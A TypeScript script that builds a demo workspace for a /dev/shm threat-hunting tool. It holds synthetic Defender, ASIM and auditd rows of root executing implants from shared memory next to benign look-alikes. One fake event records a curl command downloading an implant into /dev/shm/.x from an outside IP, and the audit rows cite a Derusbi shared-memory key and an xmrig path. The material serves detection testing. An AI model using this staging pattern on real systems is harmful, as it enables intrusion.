/**
 * The demo of the embedded default (docs/demo.md): a small workspace of Defender, ASIM and auditd (Syslog) rows
 * with root executions from /dev/shm and their benign look-alikes, and the samples behind them.
 *
 *   tsx scripts/make-demo.ts generate    writes demo/ (checked in, text only): demo/workspace tables (NDJSON) with
 *                                        times relative to a fixed epoch, the auditd parser function copied from
 *                                        kql/functions, the exclusion watchlist written from the rules, the text
 *                                        sample, and demo/manifest.json (epoch, samples and their SHA-256)
 *   tsx scripts/make-demo.ts check       fails when demo/ is not what `generate` writes
 *   tsx scripts/make-demo.ts seed        (npm prestart) makes the runnable copy under the data directory: the
 *        [--force] [--data-dir D]       ELF samples built with gcc (src/yara buildShmgetElf) into <data>/demo-samples,
 *                                        and <data>/workspace with every time moved so the epoch is now, and the
 *                                        SHA-256 columns pointing at the samples just built
 *
 * Checked-in data cannot hold times relative to now, so the seed rebases them: the hunt's window (the last 9 minutes)
 * then finds the demo's events, and one event lies 3 minutes in the future, for the second scheduled run.
 */
import { createHash } from "node:crypto";
import { existsSync } from "node:fs";
import { copyFile, mkdir, readdir, readFile, rm, writeFile } from "node:fs/promises";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { exclusionWatchlists } from "../src/app/local-queries.js";
import { loadRules } from "../src/rules/loader.js";
import { buildShmgetElf, haveCompiler, type OptLevel } from "../test/support/shmget-elf.js";

const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "..");
export const demoDir = path.join(repoRoot, "demo");

/** The demo's "now": checked-in times are minutes around it; the seed moves it to the real now. */
export const DEMO_EPOCH = "2026-01-01T12:00:00.000Z";
const epochMs = Date.parse(DEMO_EPOCH);
/** The seeded workspace is replayed (seeded again at the next start) once its events are older than this. */
const REPLAY_AFTER_MS = 15 * 60_000;
/** Written beside the seeded workspace (the engine would read a .json inside it as a table). */
const MARKER = "demo-seed.json";

/** Datetime columns the seed moves; Syslog's audit ids (`msg=audit(<epoch seconds>:<serial>)`) move with them. */
const TIME_COLUMNS = [
  "TimeGenerated",
  "Timestamp",
  "EventStartTime",
  "EventEndTime",
  "ProcessCreationTime",
  "InitiatingProcessCreationTime",
];

export interface SampleSpec {
  readonly name: string;
  /** An ELF built from the gcc fixture at this optimisation level, or a text file kept in demo/samples. */
  readonly build: { readonly gcc: OptLevel } | { readonly text: string };
}

export const SAMPLES: readonly SampleSpec[] = [
  { name: "kworkerd", build: { gcc: "-O2" } },
  { name: "sshd-helper", build: { gcc: "-O0" } },
  {
    name: "cleanup.sh",
    build: {
      text: "#!/bin/sh\n# demo: a harmless script staged in /dev/shm by a deploy job\nrm -f /tmp/deploy-*.lock\n",
    },
  },
];

export interface Manifest {
  readonly epoch: string;
  readonly samples: readonly { readonly name: string; readonly sha256: string; readonly build: SampleSpec["build"] }[];
}

// ── the events ────────────────────────────────────────────────────────────────────────────────────────────────

type Row = Record<string, unknown>;
type Hashes = Readonly<Record<string, string>>;

const at = (minutes: number, seconds = 0) => new Date(epochMs + minutes * 60_000 + seconds * 1000).toISOString();
/** A stable, made-up SHA-256 for files that are not demo samples. */
const fakeHash = (name: string) => createHash("sha256").update(`shmhunt demo ${name}`).digest("hex");
const deviceId = (host: string) => fakeHash(`device ${host}`).slice(0, 40);

function defenderBase(minutes: number, host: string, reportId: number): Row {
  const time = at(minutes, reportId % 60);
  return { Timestamp: time, TimeGenerated: time, DeviceId: deviceId(host), DeviceName: host, ReportId: reportId };
}

function fileEvent(
  m: number,
  host: string,
  id: number,
  action: string,
  file: string,
  sha256: string,
  actor: { exe: string; cmd: string; account: string; pid: number },
): Row {
  return {
    ...defenderBase(m, host, id),
    ActionType: action,
    FileName: path.posix.basename(file),
    FolderPath: file,
    SHA256: sha256,
    InitiatingProcessFileName: path.posix.basename(actor.exe),
    InitiatingProcessFolderPath: actor.exe,
    InitiatingProcessCommandLine: actor.cmd,
    InitiatingProcessId: actor.pid,
    InitiatingProcessAccountName: actor.account,
  };
}

function processEvent(
  m: number,
  host: string,
  id: number,
  file: string,
  sha256: string,
  account: string,
  pid: number,
  parent: { exe: string; cmd: string },
): Row {
  return {
    ...defenderBase(m, host, id),
    ActionType: "ProcessCreated",
    FileName: path.posix.basename(file),
    FolderPath: file,
    SHA256: sha256,
    ProcessId: pid,
    ProcessCommandLine: file,
    AccountName: account,
    AccountDomain: host,
    InitiatingProcessFileName: path.posix.basename(parent.exe),
    InitiatingProcessFolderPath: parent.exe,
    InitiatingProcessCommandLine: parent.cmd,
  };
}

const bash = { exe: "/usr/bin/bash", cmd: "-bash" };

/** Defender file events: the staged implant, a clean script, and what the exclusions remove. */
function deviceFileEvents(h: Hashes): Row[] {
  const by = (exe: string, account = "root", pid = 3100) => ({ exe, cmd: exe, account, pid });
  return [
    fileEvent(-6, "web-01", 1001, "FileCreated", "/dev/shm/.x/kworkerd", h.kworkerd!, {
      exe: "/usr/bin/curl",
      cmd: "curl -s -o /dev/shm/.x/kworkerd http://203.0.113.7/k",
      account: "root",
      pid: 3001,
    }),
    fileEvent(-5, "web-01", 1002, "FileCreated", "/dev/shm/cleanup.sh", h["cleanup.sh"]!, {
      exe: "/usr/bin/bash",
      cmd: "bash deploy.sh",
      account: "deploy",
      pid: 3002,
    }),
    // benign look-alikes: removed by the rule's exclusion watchlist
    fileEvent(-5, "web-01", 1003, "FileModified", "/dev/shm/sem.apt-lock", fakeHash("apt"), by("/usr/bin/apt-get")),
    fileEvent(-4, "web-01", 1004, "FileCreated", "/dev/shm/cron.pid", fakeHash("cron"), by("/usr/sbin/cron")),
    fileEvent(
      -4,
      "web-01",
      1005,
      "FileCreated",
      "/dev/shm/mysql.ibd",
      fakeHash("mysql"),
      by("/usr/sbin/mysqld", "mysql"),
    ),
    fileEvent(-3, "web-01", 1006, "FileCreated", "/dev/shm/docker-ipc", fakeHash("docker"), by("/usr/bin/dockerd")),
    fileEvent(-3, "web-01", 1007, "FileCreated", "/dev/shm/lxc-ipc", fakeHash("lxc"), by("/usr/bin/lxc-start")),
    // not shared memory
    fileEvent(-2, "web-01", 1008, "FileCreated", "/tmp/kworkerd", h.kworkerd!, by("/usr/bin/curl")),
  ];
}

/** Defender process events: root runs the implant from /dev/shm (and again on db-02, 3 minutes after "now"). */
function deviceProcessEvents(h: Hashes): Row[] {
  return [
    processEvent(-5, "web-01", 2001, "/dev/shm/.x/kworkerd", h.kworkerd!, "root", 4242, bash),
    // benign look-alikes
    processEvent(-4, "web-01", 2002, "/var/run/docker/runtime-runc/moby/4f1c/init", fakeHash("runc"), "root", 4300, {
      exe: "/usr/bin/containerd-shim-runc-v2",
      cmd: "/usr/bin/containerd-shim-runc-v2 -namespace moby",
    }),
    processEvent(-4, "web-01", 2003, "/dev/shm/runc-exec", fakeHash("runc-exec"), "root", 4301, {
      exe: "/usr/bin/runc",
      cmd: "/usr/bin/runc init",
    }),
    processEvent(-3, "web-01", 2004, "/dev/shm/.cache/xmrig", fakeHash("xmrig"), "www-data", 4302, bash),
    processEvent(-2, "web-01", 2005, "/usr/sbin/cron", fakeHash("cron-bin"), "root", 4303, {
      exe: "/usr/lib/systemd/systemd",
      cmd: "/sbin/init",
    }),
    // a later execution of the same binary on another host: found by the next scheduled run
    processEvent(3, "db-02", 2006, "/dev/shm/.x/kworkerd", h.kworkerd!, "root", 5151, bash),
  ];
}

function asimProcess(
  m: number,
  id: number,
  file: string,
  sha256: string,
  uid: string,
  user: string,
  actingCmd: string,
) {
  const time = at(m, id % 60);
  return {
    TimeGenerated: time,
    EventStartTime: time,
    EventEndTime: time,
    EventType: "ProcessCreated",
    EventProduct: "Sysmon for Linux",
    EventVendor: "Microsoft",
    EventOriginalUid: `demo-${id}`,
    DvcHostname: "app-03",
    DvcOs: "Linux",
    TargetUserId: uid,
    TargetUsername: user,
    TargetProcessName: file,
    TargetProcessFilename: path.posix.basename(file),
    TargetProcessId: String(6000 + id),
    TargetProcessCommandLine: file,
    TargetProcessSHA256: sha256,
    ActingProcessName: "/usr/bin/bash",
    ActingProcessId: "6000",
    ActingProcessCommandLine: actingCmd,
  };
}

/** ASIM process events (app-03): root runs sshd-helper from /run/shm; the same as a user, and a runc init. */
function imProcessEvents(h: Hashes): Row[] {
  return [
    asimProcess(-4, 1, "/run/shm/sshd-helper", h["sshd-helper"]!, "0", "root", "-bash"),
    asimProcess(-3, 2, "/run/shm/sshd-helper", h["sshd-helper"]!, "1000", "alice", "-bash"),
    asimProcess(-3, 3, "/var/run/docker/runtime-runc/moby/77aa/init", fakeHash("runc2"), "0", "root", "runc"),
  ];
}

function asimFile(m: number, id: number, file: string, sha256: string, acting: string) {
  const time = at(m, id % 60);
  return {
    TimeGenerated: time,
    EventStartTime: time,
    EventEndTime: time,
    EventType: "FileCreated",
    EventProduct: "Sysmon for Linux",
    EventVendor: "Microsoft",
    EventOriginalUid: `demo-file-${id}`,
    DvcHostname: "app-03",
    DvcOs: "Linux",
    TargetFilePath: file,
    TargetFileName: path.posix.basename(file),
    TargetFileDirectory: path.posix.dirname(file),
    TargetFileSHA256: sha256,
    ActingProcessName: acting,
    ActingProcessId: String(7000 + id),
    ActingProcessCommandLine: acting,
    ActorUsername: "root",
  };
}

/** ASIM file events (app-03): sshd-helper downloaded into /run/shm; dockerd's lock file (excluded). */
function imFileEvents(h: Hashes): Row[] {
  return [
    asimFile(-5, 1, "/run/shm/sshd-helper", h["sshd-helper"]!, "/usr/bin/wget"),
    asimFile(-3, 2, "/run/shm/docker.sock.lock", fakeHash("docker-lock"), "/usr/bin/dockerd"),
  ];
}

/** Raw audit records (build-04) as the Syslog table holds them; the ShmhuntAuditd function parses them. */
function syslogRows(): Row[] {
  const rows: Row[] = [];
  let serial = 900;
  const record = (minutes: number, lines: readonly string[]) => {
    const time = at(minutes, serial % 60);
    const id = `${((epochMs + minutes * 60_000 + (serial % 60) * 1000) / 1000).toFixed(3)}:${serial++}`;
    for (const text of lines) {
      rows.push({
        TimeGenerated: time,
        Computer: "build-04",
        HostName: "build-04",
        Facility: "authpriv",
        SeverityLevel: "info",
        SyslogMessage: text.replace("msg=audit()", `msg=audit(${id})`),
      });
    }
  };
  const syscall = (nr: number, a: string, pid: number, uid: number, comm: string, exe: string) =>
    `type=SYSCALL msg=audit(): arch=c000003e syscall=${nr} success=yes exit=0 ${a} a3=0 items=0 ppid=1 pid=${pid} auid=${uid} uid=${uid} gid=${uid} euid=${uid} tty=(none) ses=2 comm="${comm}" exe="${exe}" key="shm"`;
  const exec = (minutes: number, exe: string, pid: number, uid: number) =>
    record(minutes, [
      syscall(59, "a0=55d a1=55e a2=55f", pid, uid, path.posix.basename(exe), exe).replace("items=0", "items=2"),
      `type=EXECVE msg=audit(): argc=2 a0="${exe}" a1="-d"`,
      'type=CWD msg=audit(): cwd="/root"',
      `type=PATH msg=audit(): item=0 name="${exe}" inode=1 dev=00:1a mode=0100755 nametype=NORMAL`,
    ]);
  exec(-5, "/dev/shm/.x/kworkerd", 8080, 0);
  // shmget(0x82015F0D, 64, IPC_CREAT|0666): the Derusbi key
  record(-5, [syscall(29, "a0=82015f0d a1=40 a2=3b6", 8080, 0, "kworkerd", "/dev/shm/.x/kworkerd")]);
  // shmget(IPC_PRIVATE, 64, IPC_CREAT|0666) by the benign sources the exclusions remove
  for (const [comm, exe] of [
    ["apt-get", "/usr/bin/apt-get"],
    ["cron", "/usr/sbin/cron"],
    ["mysqld", "/usr/sbin/mysqld"],
    ["dockerd", "/usr/bin/dockerd"],
    ["lxc-start", "/usr/bin/lxc-start"],
  ] as const) {
    record(-4, [syscall(29, "a0=0 a1=40 a2=3b6", 8100 + serial, 0, comm, exe)]);
  }
  // the same binary run by a non-root user: not the execution rule's
  exec(-3, "/dev/shm/.x/kworkerd", 8200, 1000);
  return rows;
}

export const TABLES: Readonly<Record<string, (h: Hashes) => Row[]>> = {
  DeviceFileEvents: deviceFileEvents,
  DeviceProcessEvents: deviceProcessEvents,
  _Im_ProcessEvent: imProcessEvents,
  _Im_FileEvent: imFileEvents,
  Syslog: syslogRows,
};

// ── generate ──────────────────────────────────────────────────────────────────────────────────────────────────

async function sha256File(file: string): Promise<string> {
  return createHash("sha256")
    .update(await readFile(file))
    .digest("hex");
}

/** Builds (gcc) or writes each sample into dir; returns name → { path, sha256 }. Throws when gcc is missing. */
export async function buildSamples(dir: string): Promise<Record<string, { path: string; sha256: string }>> {
  await mkdir(dir, { recursive: true });
  const out: Record<string, { path: string; sha256: string }> = {};
  for (const sample of SAMPLES) {
    const target = path.join(dir, sample.name);
    if ("gcc" in sample.build) {
      const built = await buildShmgetElf(path.join(dir, ".build"), sample.build.gcc);
      await copyFile(built, target);
    } else {
      await writeFile(target, sample.build.text, { mode: 0o755 });
    }
    out[sample.name] = { path: target, sha256: await sha256File(target) };
  }
  await rm(path.join(dir, ".build"), { recursive: true, force: true });
  return out;
}

/**
 * The workspace files taken from the project, not from the demo: the auditd parser (kql/functions) and the rules'
 * exclusion watchlists. `generate` checks in copies (so demo/workspace runs on its own with `shmhunt kql`); the seed
 * writes them afresh, so the running demo always uses the project's current parser and exclusions.
 */
export async function projectFiles(): Promise<Record<string, string>> {
  const files: Record<string, string> = {};
  files["workspace/functions/ShmhuntAuditd.kql"] = await readFile(
    path.join(repoRoot, "kql", "functions", "ShmhuntAuditd.kql"),
    "utf8",
  );
  const { rules } = await loadRules(path.join(repoRoot, "rules"));
  const csv = (v: string) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
  for (const [alias, list] of Object.entries(exclusionWatchlists(rules))) {
    files[`workspace/watchlists/${alias}.csv`] = `Value,Scenario,Field,Operator\n${list.items
      .map((i) => [i.Value, i.Scenario, i.Field, i.Operator].map((v) => csv(v ?? "")).join(","))
      .join("\n")}\n`;
  }
  return files;
}

/** The files of demo/ as `generate` writes them (relative path → text). */
export async function demoFiles(hashes: Hashes): Promise<Record<string, string>> {
  const files: Record<string, string> = {};
  for (const [table, rows] of Object.entries(TABLES)) {
    files[`workspace/${table}.ndjson`] = `${rows(hashes)
      .map((r) => JSON.stringify(r))
      .join("\n")}\n`;
  }
  Object.assign(files, await projectFiles());
  for (const sample of SAMPLES) {
    if ("text" in sample.build) files[`samples/${sample.name}`] = sample.build.text;
  }
  const manifest: Manifest = {
    epoch: DEMO_EPOCH,
    samples: SAMPLES.map((s) => ({ name: s.name, sha256: hashes[s.name]!, build: s.build })),
  };
  files["manifest.json"] = `${JSON.stringify(manifest, null, 2)}\n`;
  return files;
}

async function generatedFiles(): Promise<Record<string, string>> {
  if (!(await haveCompiler())) throw new Error("generating the demo needs gcc (the samples' SHA-256 go in the rows)");
  const scratch = path.join(repoRoot, "bench", ".tmp", `demo-samples-${process.pid}`);
  try {
    const built = await buildSamples(scratch);
    return await demoFiles(Object.fromEntries(Object.entries(built).map(([k, v]) => [k, v.sha256])));
  } finally {
    await rm(scratch, { recursive: true, force: true });
  }
}

// ── seed ──────────────────────────────────────────────────────────────────────────────────────────────────────

export interface SeedOptions {
  /** The data directory (SHMHUNT_DATA_DIR): the workspace goes to <dataDir>/workspace. */
  readonly dataDir: string;
  readonly now?: Date;
  /** Seed again even when a fresh demo seed is there. */
  readonly force?: boolean;
  readonly source?: string;
}

export interface SeedResult {
  readonly seeded: boolean;
  /** Why nothing was done, or what is missing. */
  readonly notes: readonly string[];
  readonly workspaceDir: string;
  readonly samplesDir: string;
  /** Built samples by name (absent without gcc). */
  readonly samples: Readonly<Record<string, { readonly path: string; readonly sha256: string }>>;
  readonly shiftMs: number;
}

/** Moves a row's datetimes (and audit record ids) by shiftMs. */
export function shiftRow(row: Row, shiftMs: number): Row {
  const out: Row = { ...row };
  for (const column of TIME_COLUMNS) {
    const value = out[column];
    if (typeof value === "string" && !Number.isNaN(Date.parse(value))) {
      out[column] = new Date(Date.parse(value) + shiftMs).toISOString();
    }
  }
  if (typeof out.SyslogMessage === "string") {
    out.SyslogMessage = out.SyslogMessage.replace(/msg=audit\((\d+(?:\.\d+)?):(\d+)\)/, (_m, secs: string, serial) => {
      const ms = Math.round(Number(secs) * 1000) + shiftMs;
      return `msg=audit(${(ms / 1000).toFixed(3)}:${serial})`;
    });
  }
  return out;
}

/**
 * Makes the runnable demo under the data directory: samples built with gcc, the workspace with its times moved so
 * the demo epoch is `now`, and the SHA-256 columns rewritten to the samples built here (gcc output differs between
 * compilers). Leaves alone a workspace that is not a demo seed, and a demo seed still fresh (unless forced).
 */
export async function seedDemo(options: SeedOptions): Promise<SeedResult> {
  const source = options.source ?? demoDir;
  const now = options.now ?? new Date();
  const workspaceDir = path.join(options.dataDir, "workspace");
  const samplesDir = path.join(options.dataDir, "demo-samples");
  const manifest = JSON.parse(await readFile(path.join(source, "manifest.json"), "utf8")) as Manifest;
  const shiftMs = now.getTime() - Date.parse(manifest.epoch);
  const result = (seeded: boolean, notes: string[], samples: SeedResult["samples"] = {}): SeedResult => ({
    seeded,
    notes,
    workspaceDir,
    samplesDir,
    samples,
    shiftMs,
  });

  if (existsSync(workspaceDir)) {
    const marker = await readFile(path.join(options.dataDir, MARKER), "utf8").then(
      (t) => JSON.parse(t) as { seededAt: string },
      () => undefined,
    );
    if (!marker) return result(false, [`${workspaceDir} exists and is not the demo: left as it is`]);
    if (!options.force && now.getTime() - Date.parse(marker.seededAt) < REPLAY_AFTER_MS) {
      return result(false, [`the demo seeded at ${marker.seededAt} is still fresh`]);
    }
  }

  const notes: string[] = [];
  let samples: Record<string, { path: string; sha256: string }> = {};
  if (await haveCompiler()) {
    samples = await buildSamples(samplesDir);
  } else {
    notes.push(
      "gcc not found: the ELF samples of the demo are not built (install gcc); shm-creation hits will wait for samples",
    );
    for (const s of manifest.samples.filter((x) => "text" in x.build)) {
      await mkdir(samplesDir, { recursive: true });
      const target = path.join(samplesDir, s.name);
      await copyFile(path.join(source, "samples", s.name), target);
      samples[s.name] = { path: target, sha256: await sha256File(target) };
    }
  }
  const rehash = new Map<string, string>();
  for (const s of manifest.samples) {
    const built = samples[s.name];
    if (built && built.sha256 !== s.sha256) {
      rehash.set(s.sha256, built.sha256);
      notes.push(`sample ${s.name}: this gcc builds ${built.sha256}, not ${s.sha256}; the rows now name the former`);
    }
  }

  await rm(workspaceDir, { recursive: true, force: true });
  await mkdir(workspaceDir, { recursive: true });
  const tablesDir = path.join(source, "workspace");
  for (const entry of await readdir(tablesDir, { withFileTypes: true })) {
    const from = path.join(tablesDir, entry.name);
    const to = path.join(workspaceDir, entry.name);
    if (entry.isDirectory()) {
      await mkdir(to, { recursive: true });
      for (const file of await readdir(from)) await copyFile(path.join(from, file), path.join(to, file));
    } else if (entry.name.endsWith(".ndjson")) {
      const lines = (await readFile(from, "utf8")).split("\n").filter((l) => l.trim() !== "");
      const moved = lines.map((l) => {
        let text = JSON.stringify(shiftRow(JSON.parse(l) as Row, shiftMs));
        for (const [old, fresh] of rehash) text = text.replaceAll(old, fresh);
        return text;
      });
      await writeFile(to, `${moved.join("\n")}\n`);
    }
  }
  for (const [name, text] of Object.entries(await projectFiles())) {
    const to = path.join(workspaceDir, path.relative("workspace", name));
    await mkdir(path.dirname(to), { recursive: true });
    await writeFile(to, text);
  }
  await writeFile(
    path.join(options.dataDir, MARKER),
    `${JSON.stringify({ seededAt: now.toISOString(), epoch: manifest.epoch, shiftMs, samples }, null, 2)}\n`,
  );
  return result(true, notes, samples);
}

// ── command line ──────────────────────────────────────────────────────────────────────────────────────────────

/** Settings that take the service out of the embedded default, or away from the default workspace. */
const NOT_EMBEDDED = [
  "SHMHUNT_WORKSPACE_ID",
  "SHMHUNT_WORKSPACE_DIR",
  "SHMHUNT_STORAGE_CONNECTION_STRING",
  "SHMHUNT_STORAGE_ACCOUNT",
  "SHMHUNT_SUBSCRIPTION_ID",
];

async function main(argv: readonly string[]): Promise<number> {
  const [command = "generate", ...rest] = argv;
  if (command === "generate" || command === "check") {
    const files = await generatedFiles();
    const stale: string[] = [];
    for (const [name, text] of Object.entries(files)) {
      const file = path.join(demoDir, name);
      if (command === "check") {
        const current = await readFile(file, "utf8").catch(() => undefined);
        if (current !== text) stale.push(name);
      } else {
        await mkdir(path.dirname(file), { recursive: true });
        await writeFile(file, text);
      }
    }
    if (stale.length > 0) {
      process.stderr.write(`make-demo: demo/ is stale (${stale.join(", ")}): run tsx scripts/make-demo.ts\n`);
      return 1;
    }
    process.stdout.write(
      `make-demo: ${command === "check" ? "demo/ is up to date" : `wrote ${Object.keys(files).length} files under demo/`}\n`,
    );
    return 0;
  }
  if (command === "seed") {
    const set = NOT_EMBEDDED.filter((name) => (process.env[name] ?? "").trim() !== "");
    if (set.length > 0) {
      process.stdout.write(`shmhunt demo: not seeded (${set.join(", ")} set)\n`);
      return 0;
    }
    const dataIndex = rest.indexOf("--data-dir");
    const dataDir = path.resolve(
      dataIndex >= 0 ? (rest[dataIndex + 1] ?? ".shmhunt") : (process.env.SHMHUNT_DATA_DIR ?? ".shmhunt"),
    );
    const seeded = await seedDemo({ dataDir, force: rest.includes("--force") });
    for (const note of seeded.notes) process.stdout.write(`shmhunt demo: ${note}\n`);
    if (seeded.seeded) {
      process.stdout.write(
        `shmhunt demo: workspace ${seeded.workspaceDir} (events of the last minutes), samples in ${seeded.samplesDir}: see docs/demo.md\n`,
      );
    }
    return 0;
  }
  process.stderr.write(`make-demo: unknown command ${JSON.stringify(command)} (generate, check, seed)\n`);
  return 2;
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  main(process.argv.slice(2)).then(
    (code) => process.exit(code),
    (error: unknown) => {
      process.stderr.write(`make-demo: ${error instanceof Error ? error.message : String(error)}\n`);
      process.exit(1);
    },
  );
}
